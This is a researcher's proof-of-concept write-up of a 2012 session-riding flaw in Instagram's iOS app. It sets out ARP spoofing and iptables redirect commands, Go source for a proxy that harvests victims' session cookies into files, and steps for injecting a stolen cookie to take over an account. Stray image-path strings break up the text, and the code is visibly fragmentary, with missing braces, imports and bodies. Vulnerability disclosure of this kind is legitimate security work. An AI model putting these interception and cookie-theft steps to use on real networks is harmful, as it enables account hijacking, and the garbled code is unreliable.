Instagram 3.1.2 For iOS, Session Riding Vulnerability (PoC)

Instagram 3.1.2 for iPhone (released on Oct 23, 2012) is vulnerable to a session riding attack that could lead an attacker on the same network to gain access to the victim’s account.


Following my latest report on Instagram, this PoC exploits the same plaintext disclosure vulnerability.

An attacker on the same LAN of the victim could launch a simple ARP spoofing attack to trick mobile devices into directing port 80 traffic through the attackers machine. When the victim starts the Instagram app and performs any action that requires authentication, such as liking or unliking pictures, a plain text cookie is sent to the Instagram server, once the attacker gets the cookie he is able to login into the user’s account via web and perform a variety of actions.

Suggested Fix

Proof of Concept

An ARP spoofing attack redirects Instagram requests from the iPhone into a custom hyperfox proxy, when the proxy detects an Instagram cookie, a file cookie/$IP_ADDRESS.txt is created containing the cookie value.

After the attacker gets a cookie, he could use a plugin like Modify Headers on Firefox to sign in as the user on the secure URL where he could change personal data, such as the user’s e-mail address, and compromise the account.

Getting the user’s cookie

# sysctl -wnet.ipv4.ip_forward=1
# iptables -A PREROUTING -t nat -i wlan0 -p tcp --destination-port 80 -j REDIRECT --to-port 9999
# arpspoof -i wlan0
aa:bb:cc:dd:ee:ff ff:ff:ff:ff:ff:ff 0806 42: arp reply is-at aa:bb:cc:dd:ee:ff
% go run main.go
2012/11/30 07:05:20 Hyperfox is ready.
2012/11/30 07:05:20 Listening at
-> POST /api/v1/media/123456789012345678_1234567/unlike/ HTTP/1.1 153b
** Gotcha!
% cat cookies/
ds_user_id=1234567; igls=username; sessionid=AAAA; csrftoken=BBBBUsing the cookie

The attacker can use the stolen cookie to fake a legitimate session with the aid of a browser plugin.

Injecting cookie

Access granted!

The attacker is now able to login into the user’s account.

Editing the user's account

Hyperfox Proxy Code

  Instagram Session Riding Vulnerability

  Proof of concept.
  November 2012Carlos Reventlov <[email protected]>

package main

import (

var cookiesDir = "cookies"

type Victim struct {
  cookie string
  userId string
  Done   bool

var victims map[string]*Victim

func getVictim(ip string) *Victim {
  if _, ok := victims[ip]; ok == false {
    fmt.Printf("** Gotcha %s!\n", ip)
    victims[ip] = &Victim{}
  return victims[ip]

func waitForCookie(pr *proxy.ProxyRequest) io.WriteCloser {
  hostn := strings.SplitN(pr.Request.RemoteAddr, ":", 2)
  localIp := hostn[0]

  if pr.Request.Host == "" {
    if strings.HasPrefix(pr.Request.RequestURI, "/api/") {
      victim := getVictim(localIp)
      if victim.Done == false {
        os.MkdirAll(cookiesDir, os.ModeDir|os.FileMode(0755))
        cookieFile := fmt.Sprintf("%s/%s.txt", cookiesDir, localIp)
        fp, err := os.Create(cookieFile)
        if err == nil {victim.Done = true

  return nil

func main() {

  victims = make(map[string]*Victim)

  p := proxy.New()




  var err error

  err = p.Start()

  if err != nil {
    log.Printf(fmt.Sprintf("Failed to bind:%s.\n", err.Error()))

Disclosure timeline